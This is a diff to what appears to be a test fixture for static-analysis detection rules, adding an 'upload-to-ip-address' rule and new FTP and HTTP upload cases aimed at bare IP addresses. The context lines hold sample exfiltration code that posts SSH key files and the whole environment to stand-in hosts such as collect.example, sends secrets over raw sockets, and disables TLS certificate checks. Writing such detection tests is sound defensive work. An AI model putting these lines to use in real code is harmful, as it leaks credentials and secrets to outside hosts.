@@ -163,7 +163,7 @@ httpx.post("https://collect.example/k", content=open(os.path.expanduser("~/.ssh/
 session = make_session()
 # ruleid: secret-exfiltration
 session.post("https://collect.example/e", data=json.dumps(dict(os.environ)))
-# ruleid: event-loop-network, socket-use
+# ruleid: event-loop-network, socket-use, upload-to-ip-address
 conn = socket.create_connection(("203.0.113.9", 443))
 # ruleid: secret-exfiltration
 conn.sendall(json.dumps(dict(os.environ)).encode())
@@ -837,7 +837,7 @@ async def _ns_send():
     _ns_w.write(repr(_lg_os.environ).encode())
     # ok: secret-to-network-stream
     _ns_w.write(b"GET / HTTP/1.0\r\n\r\n")
-# ruleid: socket-use, event-loop-network
+# ruleid: socket-use, event-loop-network, upload-to-ip-address
 _ns_sock = socket.create_connection(("203.0.113.8", 443))
 _ns_f = _ns_sock.makefile("w")
 # ruleid: secret-to-network-stream
@@ -900,3 +900,12 @@ os.environ["GIT_SSL_NO_VERIFY"] = "true"
 os.environ["CURL_CA_BUNDLE"] = ""
 # ok: ca-bundle-cleared-env
 os.environ["REQUESTS_CA_BUNDLE"] = "/etc/ssl/certs/ca-certificates.crt"
+# data sent to a bare public address, and to a machine on the local network
+_COLLECTOR = "203.0.113.90"
+# ruleid: upload-to-ip-address, clear-text-protocol-client
+_ftp = ftplib.FTP(_COLLECTOR, timeout=30)
+# ruleid: upload-to-ip-address, http-client
+requests.post("http://198.51.100.7:8080/ingest", data=b"rows", timeout=5)
+# ok: upload-to-ip-address
+# ruleid: http-client
+requests.post("http://192.168.1.20/api/print", data=b"label", timeout=5)
